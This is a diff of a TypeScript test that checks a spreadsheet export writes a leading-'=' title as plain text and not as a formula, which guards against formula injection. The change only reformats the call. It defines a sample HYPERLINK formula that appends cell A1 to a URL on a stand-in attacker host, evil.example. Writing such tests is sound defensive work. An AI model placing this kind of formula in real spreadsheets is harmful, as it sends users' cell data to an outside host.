@@ -7,7 +7,16 @@ const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 describe('toXlsx', () => {
   it('writes a title starting with = as a text cell, not a formula, and figures as numbers', async () => {
     const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load(await toXlsx({ name: 'activities', header: ['title', 'balance'], rows: [[FORMULA, -12.5], ['-Project one', 3]] }) as unknown as ArrayBuffer);
+    await workbook.xlsx.load(
+      (await toXlsx({
+        name: 'activities',
+        header: ['title', 'balance'],
+        rows: [
+          [FORMULA, -12.5],
+          ['-Project one', 3],
+        ],
+      })) as unknown as ArrayBuffer,
+    );
     const sheet = workbook.worksheets[0]!;
     const title = sheet.getCell('A2');
     expect(title.type).toBe(ExcelJS.ValueType.String);
